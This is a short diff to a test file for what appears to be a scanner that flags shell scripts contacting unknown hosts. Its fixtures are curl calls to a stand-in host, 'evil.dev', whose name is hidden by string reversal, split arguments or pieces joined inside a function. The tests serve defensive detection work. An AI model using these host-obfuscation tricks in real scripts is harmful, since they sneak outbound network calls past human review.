@@ -11,7 +11,11 @@ test.each([
     'text=ved.live\nfor ((i = ${#text} - 1; i >= 0; i--)); do at+=${text:i:1}; done\ncurl "https://$at/x"',
   ],
   ["unknown-host", "a.sh", 'tell() {\n  curl "https://$1.$2/x"\n}\ntell evil dev'],
-  ["unknown-host", "a.sh", 'host() {\n  echo evil.dev\n}\ncurl "https://$(host)/x"'],
+  [
+    "unknown-host",
+    "a.sh",
+    'host() {\n  zone=dev\n  echo "evil.$zone"\n}\ncurl "https://$(host)/x"',
+  ],
   [
     "unknown-host",
     "a.sh",
